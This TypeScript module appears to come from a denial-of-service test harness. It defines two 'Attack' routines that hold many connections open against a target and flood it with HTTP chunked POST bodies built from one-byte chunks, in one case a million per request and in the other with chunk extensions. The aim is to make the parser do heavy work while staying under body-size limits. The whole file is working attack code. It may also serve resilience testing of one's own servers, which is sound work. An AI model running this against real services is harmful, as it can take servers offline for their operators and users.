/** Chunked bodies whose chunks are one byte each: the parser works for each chunk, the limit on bodies counts bytes. */
import type net from "node:net";
import { TRANSFER_FACTORY_PATH } from "../honest/requests.js";
import { keepConnected } from "../wire/crowd.js";
import { countResponses, encodeHead, pump } from "../wire/http1.js";
import type { Attack, Tally } from "./attack.js";

interface ChunkedBody {
  /** One chunk as sent. */
  readonly chunk: string;
  readonly count: number;
}

const CHUNKS_PER_WRITE = 10_000;
const LAST_CHUNK = Buffer.from("0\r\n\r\n");
const tiny: ChunkedBody = { chunk: "1\r\n[\r\n", count: 1_000_000 };
/** Node.js ends a request whose extensions are larger than 16 KiB together. */
const extended: ChunkedBody = { chunk: "1;a=b\r\n[\r\n", count: 4_000 };

export const tinyChunks = (connections: number): Attack => chunked(tiny, connections);
export const chunkExtensions: Attack = chunked(extended, 50);

function chunked(body: ChunkedBody, connections: number): Attack {
  const write = Buffer.from(body.chunk.repeat(Math.min(CHUNKS_PER_WRITE, body.count)), "latin1");
  const writes = Math.ceil(body.count / CHUNKS_PER_WRITE);
  return (target, tally, signal) =>
    keepConnected(target, tally, signal, {
      count: connections,
      use: (socket) => sendBodies(socket, tally, write, writes),
    });
}

const head = encodeHead("POST", TRANSFER_FACTORY_PATH, {
  "Content-Type": "application/json",
  "Transfer-Encoding": "chunked",
});

/** Sends one body after another, without waiting for responses. */
function sendBodies(socket: net.Socket, tally: Tally, write: Buffer, writes: number): void {
  countResponses(socket, tally);
  let sent = -1;
  pump(socket, () => {
    sent++;
    if (sent === 0) tally.requests++;
    if (sent === 0) return head;
    if (sent <= writes) return write;
    sent = -1;
    return LAST_CHUNK;
  });
}
